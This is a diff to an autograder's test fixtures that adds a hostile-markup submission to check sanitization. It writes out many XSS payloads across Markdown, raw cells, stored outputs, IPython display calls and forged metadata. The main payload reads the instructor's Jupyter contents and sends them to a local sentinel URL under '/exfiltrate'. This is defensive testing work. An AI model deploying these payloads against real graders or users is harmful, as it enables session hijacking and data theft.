@@ -9,6 +9,7 @@ hostile submission is a correct or a wrong one plus one attack (HOSTILE);
 grader may give it.
 """
 
+import base64
 import json
 import re
 
@@ -31,6 +32,9 @@ FUNCTIONS = {
         "    return -2 * p * (1 - p) / (1 - 2 * p * (1 - p))\n"),
 }
 WRONG_FUNCTION = "def kappa(*args):\n    return 0.123\n"
+# where the markup attacks send their requests (tests/test_grading_sanitize.py
+# counts what reaches it)
+SENTINEL = "http://127.0.0.1:47913"
 
 
 def answer_name(label):
@@ -235,6 +239,92 @@ except Exception as err:
     print("out:", type(err).__name__, err)
 '''
 
+# Markup that would run in the instructor's browser (the formgrader, inside
+# their logged-in Jupyter session) or the feedback page, or make a request from
+# it: as a written answer, a Markdown cell, a raw cell, outputs produced when the
+# notebook runs and outputs stored in the file.  {sentinel} is an HTTP server
+# of the test that counts the requests it gets; every script also sets
+# window.__pwned and the page's title.
+PWN = ("window.__pwned = (window.__pwned || 0) + 1; document.title = 'PWNED'; "
+       "fetch('/api/contents/').then(r => r.text()).then(t => "
+       "fetch('{sentinel}/exfiltrate?' + encodeURIComponent(t.slice(0, 200))))")
+MARKUP = f'''\
+My derivation: kappa is $2(ad - bc) / ((a+b)(b+d) + (a+c)(c+d))$, with $a<b$ here.
+
+<script>{PWN}</script>
+
+<img src="x" onerror="{PWN}"> <img src="{{sentinel}}/img.png">
+
+[a javascript: link](javascript:{PWN}) [an entity-encoded one](&#106;avascript:alert(1))
+<a href="javascript:alert(1)">raw link</a>
+[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
+
+<iframe src="{{sentinel}}/iframe" srcdoc="<script>parent.{PWN}</script>"></iframe>
+
+<form action="{{sentinel}}/form" method="post"><input name="x" value="y" autofocus
+onfocus="{PWN}"><button formaction="javascript:alert(1)">Send</button></form>
+
+<svg onload="{PWN}"><script>{PWN}</script><image href="{{sentinel}}/svg.png"/></svg>
+
+<style>body {{ background: url({{sentinel}}/style.png) }}</style>
+<div style="background-image: url({{sentinel}}/inline-style.png)">styled</div>
+
+<meta http-equiv="refresh" content="0; url={{sentinel}}/meta"><base href="{{sentinel}}/base/">
+<link rel="stylesheet" href="{{sentinel}}/link.css">
+
+<object data="{{sentinel}}/object"></object><embed src="{{sentinel}}/embed">
+
+![a remote image]({{sentinel}}/markdown-image.png) ![ref image][r]
+
+[r]: {{sentinel}}/ref-image.png
+
+<details open ontoggle="{PWN}"><summary>details</summary></details>
+<video><source onerror="{PWN}"></video> <audio src="x" onerror="{PWN}"></audio>
+
+$\\href{{javascript:alert(1)}}{{x}}$
+'''
+DISPLAY_MARKUP = (
+    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
+    f"pwn = {PWN!r}\n"
+    "display(HTML('<b>bold</b><script>' + pwn + '</script><img src=x onerror=\"' + pwn + '\">'))\n"
+    "display(Javascript(pwn))\n"
+    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"' + pwn + '\">'\n"
+    "            '<circle r=\"5\"/></svg>'))\n"
+    "display(Markdown('<script>' + pwn + '</script>'))\n"
+    "display({'text/html': \"<iframe src='{sentinel}/display-iframe'></iframe>\",\n"
+    "         'image/png': 'x\" onerror=\"' + pwn, 'text/plain': 'x'}, raw=True)\n")
+
+
+def add_markup(nb, sentinel):
+    """The markup attacks that are not a cell's source: a raw cell, outputs
+    stored in the file, forged metadata (cell tags, attachments, the notebook's
+    title)."""
+    pwn = PWN.replace("{sentinel}", sentinel)
+    raw = nbformat.v4.new_raw_cell(f"<script>{pwn}</script><img src=x onerror=\"{pwn}\">")
+    raw.metadata["raw_mimetype"] = "text/html"
+    cells = [raw, nbformat.v4.new_raw_cell(f"<script>{pwn}</script>")]
+    stored = nbformat.v4.new_code_cell("print('stored outputs')")
+    stored.execution_count = 1
+    stored.outputs = [nbformat.v4.new_output("display_data", data={
+        "text/html": f"<script>{pwn}</script><p onclick=\"{pwn}\">table</p>",
+        "application/javascript": pwn,
+        "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn}"/>',
+        "image/png": f'x" onerror="{pwn}',
+        "text/markdown": f"<script>{pwn}</script>",
+        "text/latex": f"$\\href{{javascript:{pwn}}}{{x}}$",
+        "text/plain": "stored"})]
+    # (a tag may not hold a comma: nbformat's schema)
+    stored.metadata["tags"] = ['x" onmouseover="window.__pwned = 1; document.title = `PWNED`']
+    cells.append(stored)
+    md = nbformat.v4.new_markdown_cell("![attached](attachment:a.svg)")
+    md.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{pwn}"/>'.encode()).decode()}}
+    cells.append(md)
+    nb.cells.extend(cells)
+    nb.metadata["title"] = f"</title><script>{pwn}</script>"
+    return nb
+
+
 # name: (fill() keywords, honest earnings)
 HOSTILE = {
     "import-references": ({"extra": FIND_REFERENCES, "references": True}, "form"),
@@ -250,6 +340,8 @@ HOSTILE = {
     "fork-bomb": ({"extra_after": FORK_BOMB}, "first"),
     "write-outside": ({"extra_after": WRITE_OUTSIDE, "all_wrong": True}, "form"),
     "tamper-cells": ({"tamper": True}, "full"),
+    "hostile-markup": ({"written": MARKUP, "extra_after": DISPLAY_MARKUP, "markup": True},
+                       "full"),
 }
 # the six kinds every chapter is tested with (the others need no chapter's content)
 EVERY_CHAPTER = ("import-references", "patch-comparison", "patch-library",
@@ -262,18 +354,22 @@ def honest_points(kind, labels):
     return {"form": n, "first": 3 if n else 0, "full": 3 * n}[kind]
 
 
-def hostile(release, student_id, kind, *, course="", aid="", notebook="", other="s001"):
-    """The ``kind`` hostile submission of ``student_id``."""
+def hostile(release, student_id, kind, *, course="", aid="", notebook="", other="s001",
+            sentinel=SENTINEL):
+    """The ``kind`` hostile submission of ``student_id`` (``sentinel``: the URL
+    the markup attacks send their requests to)."""
     kwargs, _ = HOSTILE[kind]
     kwargs = dict(kwargs)
     labels = labels_of(release)
-    fmt = dict(course=course, aid=aid, notebook=notebook, other=other, labels=labels)
-    for key in ("extra", "extra_after"):
+    fmt = dict(course=course, aid=aid, notebook=notebook, other=other, labels=labels,
+               sentinel=sentinel)
+    for key in ("extra", "extra_after", "written"):
         if key in kwargs:
             code = kwargs[key]
             for k, v in fmt.items():
                 code = code.replace("{" + k + "}", str(v) if k != "labels" else repr(v))
             kwargs[key] = code.replace("{labels!r}", repr(labels))
+    markup = kwargs.pop("markup", False)
     tamper = kwargs.pop("tamper", False)
     references = kwargs.pop("references", False)
     constant = kwargs.pop("constant", None)
@@ -310,6 +406,8 @@ def hostile(release, student_id, kind, *, course="", aid="", notebook="", other=
                                       "task": False}
         cells.append(bonus)
         nb.cells = cells
+    if markup:
+        add_markup(nb, sentinel)
     return nb
 
 
